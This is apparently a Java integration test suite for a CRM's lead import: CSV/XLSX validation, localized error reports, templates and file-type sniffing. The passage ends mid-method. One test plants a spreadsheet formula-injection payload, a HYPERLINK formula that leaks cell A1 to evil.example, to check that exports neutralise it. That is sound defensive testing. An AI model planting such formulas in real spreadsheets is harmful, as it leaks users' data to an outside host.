package com.lead2cash.lead;

import static org.assertj.core.api.Assertions.assertThat;

import com.lead2cash.testing.IntegrationTest;
import com.lead2cash.testing.LeadTestSupport;
import com.lead2cash.testing.SpreadsheetCells;
import com.lead2cash.testing.Workbooks;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import tools.jackson.databind.JsonNode;

/** Import: good and bad rows in both modes; the template round-trips. */
@IntegrationTest
class LeadImportTest {

    @Autowired MockMvcTester mvc;
    @Autowired LeadTestSupport support;
    @Autowired com.lead2cash.testing.Fixtures fixtures;
    @Autowired java.time.Clock clock;
    @Autowired JdbcClient jdbc;

    private static final String HEADER = "公司名称*,来源渠道*,行业,区域,联系人,电话,预算（元）,计划采购日期,联系人有决策权\r\n";

    private JsonNode importAndWait(String fileName, byte[] content, String mode) {
        String admin = support.bearer(mvc, "admin");
        var result = mvc.post().uri("/api/v1/leads/imports").multipart()
                .file(new MockMultipartFile("file", fileName, "application/octet-stream", content))
                .param("mode", mode).header(HttpHeaders.AUTHORIZATION, admin).exchange();
        assertThat(result).hasStatus(202);
        return finished(admin, support.json(result).get("id").asString());
    }

    /** Polls the import's status until it is no longer under way. */
    private JsonNode finished(String bearer, String id) {
        return support.finishedImport(mvc, bearer, id, Duration.ofSeconds(60), Duration.ofMillis(100));
    }

    private int count(String prefix) {
        return jdbc.sql("select count(*) from lead_lead where company_name like :p").param("p", prefix + "%")
                .query(Integer.class).single();
    }

    private static byte[] csv(String prefix) {
        return (HEADER
                + prefix + "甲公司,展会,制造业,上海,张三,13811112222,150000,2030-01-01,是\r\n"
                + prefix + "乙公司,官网表单,,,,,,,\r\n"
                + ",展会,制造业,上海,,,,,\r\n"                                  // line 4: no company name
                + prefix + "丙公司,电视广告,,,,,,,\r\n"                           // line 5: unknown source
                + prefix + "丁公司,展会,,,,12345,abc,,也许\r\n"                   // line 6: bad phone, budget, yes/no
                + "\"" + prefix + "戊公司, 有限\",客户转介绍,,,,,,,\r\n").getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void validRowsModeImportsEveryValidRowAndReportsEachInvalidOneWithLineAndReason() throws Exception {
        JsonNode status = importAndWait("leads.csv", csv("有效行"), "VALID_ROWS");
        assertThat(status.get("state").asString()).isEqualTo("DONE");
        assertThat(status.get("imported").asInt()).isEqualTo(3);
        assertThat(status.get("failed").asInt()).isEqualTo(3);
        assertThat(status.get("errors").findValues("line").stream().map(JsonNode::asInt).distinct().toList())
                .containsExactly(4, 5, 6);
        assertThat(status.get("errors").findValuesAsString("field")).contains("companyName", "source", "phone", "budget");
        // an unknown source is one problem of one cell, not also a missing source
        assertThat(status.get("errors").valueStream().filter(e -> e.get("line").asInt() == 5)
                .map(e -> e.get("field").asString() + ": " + e.get("message").asString()))
                .containsExactly("source: Unknown source \"电视广告\": write one of Trade show, Website form, Referral, "
                        + "Partner, Marketing event, Inbound inquiry, Channel, Public information, Research, Other.");
        // neither yes nor no is asked back, not stored as no
        assertThat(status.get("errors").valueStream().filter(e -> e.get("line").asInt() == 6)
                .map(e -> e.get("field").asString() + ": " + e.get("message").asString()))
                .contains("decisionMakerKnown: “也许” is neither yes nor no: write Yes or No (是 or 否).");
        assertThat(count("有效行")).isEqualTo(3);
        assertThat(jdbc.sql("select company_name from lead_lead where company_name like '有效行戊%'").query(String.class)
                .single()).isEqualTo("有效行戊公司, 有限");

        // the import's page shows the same outcome, with each refused line
        var session = fixtures.session(mvc, "admin", com.lead2cash.testing.Fixtures.ADMIN_PASSWORD);
        String html = mvc.get().uri("/leads/imports/" + status.get("id").asString() + "?lang=zh-CN").cookie(session)
                .exchange().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(html).contains("100%", "导入3条，拒绝3条，共6行", "已完成").doesNotContain("??");
    }

    @Test
    void anImportStartedInEnglishIsReadInTheReadersLanguageWithTheTemplatesColumnNames() throws Exception {
        String admin = support.bearer(mvc, "admin");
        // started through the API, which speaks English
        JsonNode status = importAndWait("language.csv", csv("语言"), "VALID_ROWS");
        assertThat(status.get("errors").toString()).contains("Enter the company name.");
        String id = status.get("id").asString();

        JsonNode inChinese = support.json(mvc.get().uri("/api/v1/leads/imports/" + id)
                .header(HttpHeaders.AUTHORIZATION, admin).header(HttpHeaders.ACCEPT_LANGUAGE, "zh-CN").exchange());
        assertThat(inChinese.get("errors").valueStream().map(e -> e.get("field").asString() + " " + e.get("message").asString()))
                .as("the API keeps the field codes, says the reasons in the asked language")
                .contains("companyName 请填写公司名称。", "source 无法识别的来源“电视广告”，请填写以下之一：展会、官网表单、客户转介绍、"
                        + "行业合作、市场活动、客户主动咨询、渠道转介、公开信息、市场调研、其他。");

        var session = fixtures.session(mvc, "admin", com.lead2cash.testing.Fixtures.ADMIN_PASSWORD);
        String page = mvc.get().uri("/leads/imports/" + id + "?lang=zh-CN").cookie(session).exchange().getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(page).contains("<td>4</td><td>公司名称</td><td>请填写公司名称。</td>", "<td>来源渠道</td>",
                "<td>预算（元）</td>").doesNotContain("Enter the company name", "<td>companyName</td>", "<td>budget</td>");

        byte[] report = mvc.get().uri("/api/v1/leads/imports/" + id + "/report.xlsx").header(HttpHeaders.AUTHORIZATION, admin)
                .header(HttpHeaders.ACCEPT_LANGUAGE, "zh-CN").exchange().getResponse().getContentAsByteArray();
        assertThat(reasons(report)).contains("#4 请填写公司名称。");
    }

    @Test
    void aPageListsTheFirstHundredProblemsAndCountsTheRestWhichTheReportHoldsAll() throws Exception {
        StringBuilder csv = new StringBuilder(HEADER);
        for (int i = 0; i < 130; i++) {
            csv.append(",展会,制造业,上海,,,,,\r\n");
        }
        JsonNode status = importAndWait("many.csv", csv.toString().getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
        assertThat(status.get("failed").asInt()).isEqualTo(130);
        String id = status.get("id").asString();

        var session = fixtures.session(mvc, "admin", com.lead2cash.testing.Fixtures.ADMIN_PASSWORD);
        String page = mvc.get().uri("/leads/imports/" + id + "?lang=en").cookie(session).exchange().getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        int table = page.indexOf("id=\"import-errors\"");
        assertThat(page.substring(table, page.indexOf("</table>", table)).split("<tr>", -1)).hasSize(1 + 1 + 100);
        assertThat(page).contains("30 more problems are not listed here", "/leads/imports/" + id + "/report.xlsx");

        byte[] report = mvc.get().uri("/leads/imports/" + id + "/report.xlsx").cookie(session).exchange().getResponse()
                .getContentAsByteArray();
        assertThat(reasons(report)).hasSize(130).last().isEqualTo("#131 Enter the company name.");
    }

    /** The reason column of an error report, row by row. */
    private static java.util.List<String> reasons(byte[] report) throws Exception {
        try (ReadableWorkbook wb = new ReadableWorkbook(new java.io.ByteArrayInputStream(report))) {
            return wb.getFirstSheet().read().stream().skip(1).map(r -> r.getCellText(r.getCellCount() - 1)).toList();
        }
    }

    /**
     * A formula cell with no saved result (as tools other than Excel write them) was read as an empty cell: a contact
     * "=1+1" became a lead with no contact, a company name "=HYPERLINK(…)" was asked for. Its row is refused on its
     * column saying to paste it as a value, once, and the report gives the formula back.
     */
    @Test
    void aFormulaWithNoSavedResultRefusesItsRowOnItsColumnOnceAndTheReportShowsTheFormula() throws Exception {
        byte[] file = Workbooks.written("线索", ws -> {
            java.util.List<String> header = java.util.List.of("公司名称*", "来源渠道*", "联系人", "预算（元）");
            for (int c = 0; c < header.size(); c++) {
                ws.inlineString(0, c, header.get(c));
            }
            ws.inlineString(1, 0, "公式甲公司");
            ws.inlineString(1, 1, "展会");
            ws.formula(1, 2, "1+1");
            ws.formula(2, 0, "HYPERLINK(\"https://example.com\",\"公式乙公司\")");
            ws.inlineString(2, 1, "展会");
            ws.inlineString(3, 0, "公式丙公司");
            ws.inlineString(3, 1, "展会");
            ws.formula(3, 3, "100*2");
            ws.inlineString(4, 0, "公式丁公司");
            ws.inlineString(4, 1, "展会");
            ws.inlineString(4, 2, "王五");
        });
        JsonNode status = importAndWait("formulas.xlsx", file, "VALID_ROWS");
        assertThat(status.get("state").asString()).isEqualTo("DONE");
        assertThat(status.get("imported").asInt()).isEqualTo(1);
        String said = "This cell holds a formula with no saved result: paste it as a value.";
        assertThat(status.get("errors").valueStream().map(e -> e.get("line").asInt() + " " + e.get("field").asString()
                + ": " + e.get("message").asString()))
                .as("the formula's column, once: not also a missing company name or a budget that is no number")
                .containsExactly("2 contactName: " + said, "3 companyName: " + said, "4 budget: " + said);
        assertThat(count("公式甲")).isZero();
        assertThat(count("公式丁")).isEqualTo(1);

        byte[] report = mvc.get().uri("/api/v1/leads/imports/" + status.get("id").asString() + "/report.xlsx")
                .header(HttpHeaders.AUTHORIZATION, support.bearer(mvc, "admin"))
                .header(HttpHeaders.ACCEPT_LANGUAGE, "zh-CN").exchange().getResponse().getContentAsByteArray();
        var rows = SpreadsheetCells.rows(report);
        java.util.List<String> header = java.util.stream.IntStream.range(0, rows.get(0).getCellCount())
                .mapToObj(c -> rows.get(0).getCellText(c)).toList();
        assertThat(rows.get(1).getCellText(header.indexOf("联系人"))).isEqualTo("=1+1");
        assertThat(rows.get(2).getCellText(header.indexOf("公司名称*")))
                .isEqualTo("=HYPERLINK(\"https://example.com\",\"公式乙公司\")");
        assertThat(rows.get(3).getCellText(header.indexOf("预算（元）"))).isEqualTo("=100*2");
        assertThat(reasons(report)).containsExactly("#2 联系人：此单元格是公式且没有保存的计算结果，请将其粘贴为数值。",
                "#3 公司名称：此单元格是公式且没有保存的计算结果，请将其粘贴为数值。",
                "#4 预算（元）：此单元格是公式且没有保存的计算结果，请将其粘贴为数值。");
    }

    @Test
    void aRowWithAControlCharacterIsRefusedAsTheApiRefusesItAndTheOtherRowsAreImported() throws Exception {
        String csv = HEADER + "控制符前公司,展会,,,,,,,\r\n\"控制\u0000符公司\",展会,,,,,,,\r\n"
                + "控制符后公司,展会,,,钱\u0007经理,,,,\r\n控制符末公司,展会,,,,,,,\r\n";
        JsonNode status = importAndWait("control.csv", csv.getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
        assertThat(status.get("state").asString()).isEqualTo("DONE");
        assertThat(status.get("imported").asInt()).isEqualTo(2);
        assertThat(status.get("errors").valueStream().map(e -> e.get("line").asInt() + " " + e.get("field").asString()))
                .containsExactly("3 companyName", "4 contactName");
        assertThat(count("控制符")).isEqualTo(2);

        // the report cannot hold a NUL (neither can a spreadsheet): its reason names the cell it refused
        byte[] report = mvc.get().uri("/api/v1/leads/imports/" + status.get("id").asString() + "/report.xlsx")
                .header(HttpHeaders.AUTHORIZATION, support.bearer(mvc, "admin"))
                .header(HttpHeaders.ACCEPT_LANGUAGE, "zh-CN").exchange().getResponse().getContentAsByteArray();
        assertThat(reasons(report)).containsExactly("#3 公司名称：文本中含有控制字符（如 NUL 或从右到左覆盖符），不允许输入。",
                "#4 联系人：文本中含有控制字符（如 NUL 或从右到左覆盖符），不允许输入。");
    }

    /** Walk finding: a company or contact name of two lines (a cell with a line break or a tab) was imported. */
    @Test
    void aRowWithANameOfMoreThanOneLineIsARowErrorNamingTheColumnAndTheOtherRowsAreImported() throws Exception {
        String csv = HEADER + "单行导入甲公司,展会,,,,,,,\r\n\"单行导入乙\r\n公司\",展会,,,,,,,\r\n"
                + "单行导入丙公司,展会,,,\"钱\t经理\",,,,\r\n单行导入丁公司,展会,,,,,,,\r\n";
        JsonNode status = importAndWait("lines.csv", csv.getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
        assertThat(status.get("state").asString()).isEqualTo("DONE");
        assertThat(status.get("imported").asInt()).isEqualTo(2);
        assertThat(status.get("errors").valueStream().map(e -> e.get("line").asInt() + " " + e.get("field").asString()))
                .containsExactly("3 companyName", "4 contactName");
        assertThat(count("单行导入")).isEqualTo(2);

        byte[] report = mvc.get().uri("/api/v1/leads/imports/" + status.get("id").asString() + "/report.xlsx")
                .header(HttpHeaders.AUTHORIZATION, support.bearer(mvc, "admin"))
                .header(HttpHeaders.ACCEPT_LANGUAGE, "en").exchange().getResponse().getContentAsByteArray();
        assertThat(reasons(report)).containsExactly(
                "#3 Company name: This field takes one line: line breaks, tabs and other control characters are not allowed.",
                "#4 Contact: This field takes one line: line breaks, tabs and other control characters are not allowed.");
    }

    /** Walk finding: a budget of 1e20 was told it must not be negative; too large is told as every amount too large. */
    @Test
    void aBudgetTooLargeIsToldHowManyDigitsItMayHaveAndANegativeOneThatItMayNotBeNegative() throws Exception {
        String csv = HEADER + "预算过大甲公司,展会,,,,,1e20,,\r\n预算过大乙公司,展会,,,,,-5,,\r\n"
                + "预算过大丙公司,展会,,,,,999999999999.99,,\r\n";
        JsonNode status = importAndWait("budgets.csv", csv.getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
        assertThat(status.get("state").asString()).isEqualTo("DONE");
        assertThat(status.get("imported").asInt()).as("the largest budget a lead takes").isEqualTo(1);
        assertThat(status.get("errors").valueStream().map(e -> e.get("line").asInt() + " " + e.get("field").asString()))
                .containsExactly("2 budget", "3 budget");

        byte[] report = mvc.get().uri("/api/v1/leads/imports/" + status.get("id").asString() + "/report.xlsx")
                .header(HttpHeaders.AUTHORIZATION, support.bearer(mvc, "admin"))
                .header(HttpHeaders.ACCEPT_LANGUAGE, "zh-CN").exchange().getResponse().getContentAsByteArray();
        assertThat(reasons(report)).containsExactly("#2 预算（元）：数值整数部分超过 12 位。",
                "#3 预算须不小于0，最多两位小数。");
    }

    @Test
    void allOrNothingModeImportsNothingWhenAnyRowIsInvalid() throws Exception {
        JsonNode status = importAndWait("leads.csv", csv("全有全无"), "ALL_OR_NOTHING");
        assertThat(status.get("state").asString()).isEqualTo("REFUSED");
        assertThat(status.get("imported").asInt()).isZero();
        assertThat(status.get("errors")).isNotEmpty();
        assertThat(count("全有全无")).isZero();

        // research by its label (the customer's too, 市场调研) or as people shorten it
        String good = HEADER + "全有全无A,展会,制造业,上海,,,,,\r\n全有全无B,调研,,,,,,,\r\n全有全无C,市场调研,,,,,,,\r\n";
        JsonNode ok = importAndWait("good.csv", good.getBytes(StandardCharsets.UTF_8), "ALL_OR_NOTHING");
        assertThat(ok.get("state").asString()).isEqualTo("DONE");
        assertThat(count("全有全无")).isEqualTo(3);
    }

    @Test
    void theTemplateOffersEachCodedColumnsValuesAndExplainsEveryColumnInTheReadersLanguage() throws Exception {
        for (String[] words : new String[][] {
                {"zh-CN", "填写说明", "来源渠道*", "是", "展会、官网表单、客户转介绍、行业合作、市场活动、客户主动咨询、渠道转介、公开信息、市场调研、其他",
                        "\"展会,官网表单,客户转介绍,", "\"是,否\"", "计划采购日期", "2031-03-01", "否"},
                {"en", "Instructions", "来源渠道* (Source)", "Yes", "Trade show, Website form, Referral, Partner, Marketing event, "
                        + "Inbound inquiry, Channel, Public information, Research, Other",
                        "\"Trade show,Website form,Referral,", "\"Yes,No\"", "计划采购日期 (Planned purchase date)",
                        "2031-03-01", "No"}}) {
            byte[] template = mvc.get().uri("/leads/imports/template.xlsx")
                    .cookie(fixtures.session(mvc, "admin", com.lead2cash.testing.Fixtures.ADMIN_PASSWORD))
                    .header(HttpHeaders.ACCEPT_LANGUAGE, words[0]).exchange().getResponse().getContentAsByteArray();
            // the data sheet first, as the import reads it; its coded columns offer their values
            assertThat(SpreadsheetCells.sheetNames(template)).as(words[0]).containsExactly("线索", words[1]);
            String sheet = SpreadsheetCells.part(template, "xl/worksheets/sheet1.xml");
            assertThat(sheet).as(words[0]).contains("<dataValidation ", words[5], words[6]);
            // every column listed with whether it is required, how to fill it and what it takes
            java.util.Map<String, java.util.List<String>> help = new java.util.HashMap<>();
            SpreadsheetCells.formattedRows(template, 1).forEach(r -> help.put(r.getCellText(0),
                    java.util.stream.IntStream.range(0, 4).mapToObj(i -> i < r.getCellCount() ? r.getCellText(i) : "").toList()));
            assertThat(help).as(words[0]).hasSize(17);
            assertThat(help.get(words[2])).as(words[0]).containsExactly(words[2], words[3],
                    help.get(words[2]).get(2), words[4]);
            assertThat(help.get(words[7]).get(1)).as(words[0]).isEqualTo(words[9]);
            assertThat(help.get(words[7]).get(2)).as(words[0]).contains(words[8]);
        }
        // a value the dropdown offers an English reader is taken as it is
        String rows = HEADER + "下拉英文甲公司,Trade show,,,,,,,Yes\r\n";
        JsonNode status = importAndWait("dropdown.csv", rows.getBytes(StandardCharsets.UTF_8), "ALL_OR_NOTHING");
        assertThat(status.get("state").asString()).isEqualTo("DONE");
        assertThat(jdbc.sql("select source || ' ' || decision_maker_known from lead_lead where company_name = '下拉英文甲公司'")
                .query(String.class).single()).isEqualTo("TRADE_SHOW true");
    }

    /** As the customer import's: the template asked for as JSON is a 406 that says it is a spreadsheet, not a 400. */
    @Test
    void theTemplateAskedForAsJsonIsA406ThatSaysItIsASpreadsheet() {
        String admin = support.bearer(mvc, "admin");
        var refused = mvc.get().uri("/api/v1/leads/imports/template.xlsx").header(HttpHeaders.AUTHORIZATION, admin)
                .header(HttpHeaders.ACCEPT, "application/json").header(HttpHeaders.ACCEPT_LANGUAGE, "en").exchange();
        assertThat(refused).hasStatus(406).bodyJson().extractingPath("$.code").isEqualTo("error.http.406.spreadsheet");
        assertThat(mvc.get().uri("/api/v1/leads/imports/nope").header(HttpHeaders.AUTHORIZATION, admin)
                .header(HttpHeaders.ACCEPT, "application/json")).as("an import's id that is none, as before").hasStatus(400);
    }

    @Test
    void theTemplateRoundTripsFilledInAsAnXlsxFile() throws Exception {
        byte[] template = mvc.get().uri("/api/v1/leads/imports/template.xlsx")
                .header(HttpHeaders.AUTHORIZATION, support.bearer(mvc, "admin")).exchange().getResponse()
                .getContentAsByteArray();
        java.util.List<String> headers = new java.util.ArrayList<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(new java.io.ByteArrayInputStream(template))) {
            wb.getFirstSheet().read().get(0).forEach(c -> headers.add(c.getText()));
        }
        assertThat(headers).contains("公司名称*", "来源渠道*", "统一社会信用代码", "计划采购日期");

        byte[] filled = Workbooks.written("线索", ws -> {
            for (int i = 0; i < headers.size(); i++) {
                ws.value(0, i, headers.get(i));
                String h = headers.get(i).replace("*", "");
                switch (h) {
                    case "公司名称" -> ws.value(1, i, "模板往返有限公司");
                    case "来源渠道" -> ws.value(1, i, "市场活动");
                    case "预算（元）" -> ws.value(1, i, 300000);
                    case "计划采购日期" -> ws.value(1, i, java.time.LocalDate.of(2031, 3, 1));
                    case "统一社会信用代码" -> ws.value(1, i, "91350100M000100Y43");
                    default -> { }
                }
            }
        });
        JsonNode status = importAndWait("filled.xlsx", filled, "ALL_OR_NOTHING");
        assertThat(status.get("state").asString()).isEqualTo("DONE");
        assertThat(status.get("imported").asInt()).isEqualTo(1);
        var row = jdbc.sql("select source, budget, purchase_date, uscc from lead_lead where company_name = '模板往返有限公司'")
                .query((rs, i) -> java.util.List.of(rs.getString(1), rs.getBigDecimal(2).toPlainString(),
                        rs.getString(3), rs.getString(4))).single();
        assertThat(row).containsExactly("MARKETING_EVENT", "300000.00", "2031-03-01", "91350100M000100Y43");
    }

    @Test
    void aFileWithUnknownColumnsIsRefusedAtOnce() {
        var result = mvc.post().uri("/api/v1/leads/imports").multipart()
                .file(new MockMultipartFile("file", "x.csv", "text/csv", "名字,颜色\r\n甲,红\r\n".getBytes(StandardCharsets.UTF_8)))
                .header(HttpHeaders.AUTHORIZATION, support.bearer(mvc, "admin")).exchange();
        assertThat(result).hasStatus(422).bodyJson().extractingPath("$.errors[0].code").isEqualTo("lead.import.unknownColumns");
    }

    @Test
    void aFileThatIsNoSpreadsheetWhateverItsNameIsRefusedWholeWithoutEchoingItsContent() throws Exception {
        String admin = support.bearer(mvc, "admin");
        int importsBefore = jdbc.sql("select count(*) from lead_import").query(Integer.class).single();
        var files = java.util.Map.of(
                "picture.csv", "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>SECRET-SVG</text></svg>",
                "page.csv", "<!DOCTYPE html><html><body>SECRET-HTML</body></html>",
                "page.pdf", "<html><head><title>SECRET-TITLE</title></head></html>",
                "scan.csv", "%PDF-1.4\n1 0 obj << /Title (SECRET-PDF) >> endobj\n");
        for (var file : files.entrySet()) {
            for (String language : java.util.List.of("en", "zh-CN")) {
                var result = mvc.post().uri("/api/v1/leads/imports").multipart()
                        .file(new MockMultipartFile("file", file.getKey(), "text/csv",
                                file.getValue().getBytes(StandardCharsets.UTF_8)))
                        .header(HttpHeaders.ACCEPT_LANGUAGE, language).header(HttpHeaders.AUTHORIZATION, admin).exchange();
                assertThat(result).as(file.getKey()).hasStatus(422);
                JsonNode body = support.json(result);
                assertThat(body.at("/errors/0/code").asString()).isEqualTo("lead.import.notASpreadsheet");
                assertThat(body.at("/errors/0/message").asString()).as(file.getKey() + " " + language)
                        .contains(language.equals("en") ? "not a CSV file or an Excel workbook" : "不是 CSV 文件或 Excel 工作簿");
                if (file.getKey().equals("picture.csv")) {
                    // what it is, in the reader's words, not image/svg+xml
                    assertThat(body.at("/errors/0/message").asString())
                            .startsWith(language.equals("en") ? "This file is a picture (SVG), " : "此文件是一张图片（SVG），");
                }
                assertThat(result.getResponse().getContentAsString(StandardCharsets.UTF_8)).doesNotContain("SECRET", "<");
            }
        }
        assertThat(jdbc.sql("select count(*) from lead_import").query(Integer.class).single()).isEqualTo(importsBefore);

        // the page refuses it the same way, with the same message
        var session = fixtures.session(mvc, "admin", com.lead2cash.testing.Fixtures.ADMIN_PASSWORD);
        assertThat(mvc.post().uri("/leads/imports").multipart()
                .file(new MockMultipartFile("file", "leads.csv", "text/csv",
                        files.get("picture.csv").getBytes(StandardCharsets.UTF_8)))
                .param("mode", "VALID_ROWS").cookie(session).with(org.springframework.security.test.web.servlet.request
                        .SecurityMockMvcRequestPostProcessors.csrf()).exchange())
                .hasStatus3xxRedirection().flash().containsEntry("flashError", "lead.import.notASpreadsheet");
        assertThat(jdbc.sql("select count(*) from lead_import").query(Integer.class).single()).isEqualTo(importsBefore);
    }

    @Test
    void aSpreadsheetIsReadAsWhatItsContentIsWhateverItsName() throws Exception {
        // a CSV saved by Excel on Chinese Windows (GB18030) named .xls, a workbook named .csv
        byte[] gb18030 = (HEADER + "内容为准甲公司,展会,,,,,,,\r\n").getBytes(java.nio.charset.Charset.forName("GB18030"));
        assertThat(importAndWait("leads.xls", gb18030, "ALL_OR_NOTHING").get("imported").asInt()).isEqualTo(1);
        byte[] xlsx = Workbooks.written("线索", ws -> {
            ws.value(0, 0, "公司名称");
            ws.value(0, 1, "来源渠道");
            ws.value(1, 0, "内容为准乙公司");
            ws.value(1, 1, "展会");
        });
        assertThat(importAndWait("leads.csv", xlsx, "ALL_OR_NOTHING").get("imported").asInt()).isEqualTo(1);
        assertThat(count("内容为准")).isEqualTo(2);
    }

    @Test
    void aHeaderOfTwentyThousandUnknownColumnsNamesTheFirstTenAndCountsTheRest() throws Exception {
        StringBuilder header = new StringBuilder("公司名称");
        for (int i = 1; i <= 20_000; i++) {
            header.append(",col").append(i);
        }
        var result = mvc.post().uri("/api/v1/leads/imports").multipart()
                .file(new MockMultipartFile("file", "wide.csv", "text/csv",
                        (header + "\r\n甲\r\n").getBytes(StandardCharsets.UTF_8)))
                .header(HttpHeaders.ACCEPT_LANGUAGE, "en")
                .header(HttpHeaders.AUTHORIZATION, support.bearer(mvc, "admin")).exchange();
        assertThat(result).hasStatus(422);
        String body = result.getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(body.length()).isLessThan(2_000);
        assertThat(support.json(result).at("/errors/0/message").asString()).isEqualTo(
                "Unknown columns: col1, col2, col3, col4, col5, col6, col7, col8, col9, col10 and 19,990 more."
                        + " Use the template's headers.");
    }

    /** What the SOP left behind for a lead: status, grade, reasons, deadlines, history, audit and notifications. */
    private java.util.Map<String, Object> sopTrail(String leadId) {
        var trail = new java.util.LinkedHashMap<String, Object>();
        trail.put("lead", jdbc.sql("select status || ' ' || grade || ' ' || (owner_id is not null) from lead_lead where id = cast(:id as uuid)")
                .param("id", leadId).query(String.class).single());
        trail.put("reasons", jdbc.sql("select count(*) from lead_grade_reason where lead_id = cast(:id as uuid)")
                .param("id", leadId).query(Integer.class).single());
        trail.put("deadlines", support.deadlines(java.util.UUID.fromString(leadId)));
        trail.put("history", jdbc.sql("select message_key from lead_event where lead_id = cast(:id as uuid) order by id")
                .param("id", leadId).query(String.class).list());
        trail.put("audit", jdbc.sql("select action from platform_audit_event where entity_type = 'Lead' and entity_id = :id order by id")
                .param("id", leadId).query(String.class).list());
        trail.put("notifications", jdbc.sql("select kind from notification_message where link = :link order by created_at")
                .param("link", "/leads/" + leadId).query(String.class).list());
        return trail;
    }

    @Test
    void anImportedLeadGoesTheWholeSopPathOfALeadCapturedThroughTheApi() {
        LeadTestSupport.Company company = support.company(mvc, "path");
        String admin = support.bearer(mvc, "admin");
        String byApi = support.postJson(mvc, admin, "/api/v1/leads", company.gradeALead("路径接口有限公司", "13700001111"))
                .get("id").asString();
        String row = "路径导入有限公司,展会,制造业," + company.region() + ",王经理,13700002222,500000,"
                + java.time.LocalDate.now(clock).plusDays(30) + ",是\r\n";
        JsonNode status = importAndWait("path.csv", (HEADER + row).getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
        assertThat(status.get("imported").asInt()).isEqualTo(1);
        String imported = jdbc.sql("select id::text from lead_lead where company_name = '路径导入有限公司'").query(String.class).single();

        var expected = sopTrail(byApi);
        assertThat(expected.get("deadlines")).asList().contains("L1:MET", "L6:MET", "L7:OPEN");
        assertThat(expected.get("notifications")).asList().contains("lead.assigned");
        assertThat(sopTrail(imported)).isEqualTo(expected);
    }

    @Test
    void everyExportNeutralisesTextASpreadsheetWouldRunAsAFormula() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点这里\")";
        String admin = support.bearer(mvc, "admin");
        assertThat(support.post(mvc, admin, "/api/v1/leads", """
                {"companyName":"%s","contactName":"@SUM(1+1)","source":"TRADE_SHOW"}"""
                .formatted(formula.replace("\"", "\\\""))).getResponse().getStatus()).isEqualTo(201);

        // the lead list export
        var session = fixtures.session(mvc, "admin", com.lead2cash.testing.Fixtures.ADMIN_PASSWORD);
        byte[] export = mvc.get().uri("/leads/export.xlsx").cookie(session).exchange().getResponse().getContentAsByteArray();
        var exported = SpreadsheetCells.rows(export).stream()
                .filter(r -> formula.equals(r.getCellText(1))).toList();
        assertThat(exported).as("the lead, its company name as typed").hasSize(1);
        SpreadsheetCells.assertKeptAsText(export, exported.get(0).getCell(1), formula);
        SpreadsheetCells.assertKeptAsText(export, exported.get(0).getCell(8), "@SUM(1+1)");

        // the import's error report: the refused row comes back neutralised, and imports again as it was
        String refused = HEADER + "\"" + formula.replace("\"", "\"\"") + "\",电视广告,,,,,,,\r\n";
        JsonNode status = importAndWait("formula.csv", refused.getBytes(StandardCharsets.UTF_8), "VALID_ROWS");
        assertThat(status.get("failed").asInt()).isEqualTo(1);
        byte[] report = mvc.get().uri("/api/v1/leads/imports/" + status.get("id").asString() + "/report.xlsx")
                .header(HttpHeaders.AUTHORIZATION, admin).exchange().getResponse().getContentAsByteArray();
        java.util.List<String> reported = new java.util.ArrayList<>();
        var reportRows = SpreadsheetCells.rows(report);
        reportRows.forEach(r -> r.forEach(c -> reported.add(c == null ? null : c.getText())));
        assertThat(reported).contains(formula).doesNotContain("'" + formula);
        SpreadsheetCells.assertKeptAsText(report, reportRows.get(1).getCell(0), formula);
        assertThat(reported).anySatisfy(cell -> assertThat(cell).startsWith("#2 ").contains("电视广告"));

        // the templates carry only their headers, through the same helper
        String template = new String(mvc.get().uri("/leads/imports/template.csv").cookie(session).exchange().getResponse()
                .getContentAsByteArray(), StandardCharsets.UTF_8);
        assertThat(template).startsWith("\uFEFF公司名称*,");
    }

    @Test
    void theErrorReportIsTheRefusedRowsReadyToCorrectAndImportAgain() throws Exception {
        String admin = support.bearer(mvc, "admin");
        JsonNode first = importAndWait("report.csv", csv("报告"), "VALID_ROWS");
        byte[] report = mvc.get().uri("/api/v1/leads/imports/" + first.get("id").asString() + "/report.xlsx")
                .header(HttpHeaders.AUTHORIZATION, admin).exchange().getResponse().getContentAsByteArray();
        // corrected in a spreadsheet program: every refused row gets a name and a known source, budgets become numbers,
        // a decision maker yes or no
        java.util.List<org.dhatim.fastexcel.reader.Row> rows;
        try (ReadableWorkbook in = new ReadableWorkbook(new java.io.ByteArrayInputStream(report))) {
            rows = in.getFirstSheet().read();
        }
        byte[] corrected = Workbooks.written("线索", ws -> {
            for (int r = 0; r < rows.size(); r++) {
                for (int c = 0; c < rows.get(r).getCellCount(); c++) {
                    var cell = rows.get(r).getCell(c);
                    String header = rows.get(0).getCell(c).getText();
                    String text = cell == null ? null : cell.getText();
                    if (r > 0 && header.startsWith("公司名称")) {
                        text = "报告更正" + r;
                    } else if (r > 0 && header.startsWith("来源渠道")) {
                        text = "展会";
                    } else if (r > 0 && (header.startsWith("预算") || header.equals("电话"))) {
                        text = null;
                    } else if (r > 0 && header.startsWith("联系人有决策权")) {
                        text = "否";
                    }
                    if (text != null) {
                        ws.value(r, c, text);
                    }
                }
            }
        });
        JsonNode again = importAndWait("corrected.xlsx", corrected, "ALL_OR_NOTHING");
        assertThat(again.get("state").asString()).isEqualTo("DONE");
        assertThat(again.get("imported").asInt()).isEqualTo(3);
        assertThat(count("报告更正")).isEqualTo(3);
    }

    @Test
    void possibleDuplicatesAmongTheFilesOwnRowsAndWithEarlierLeadsAreListedAndStillImported() {
        String admin = support.bearer(mvc, "admin");
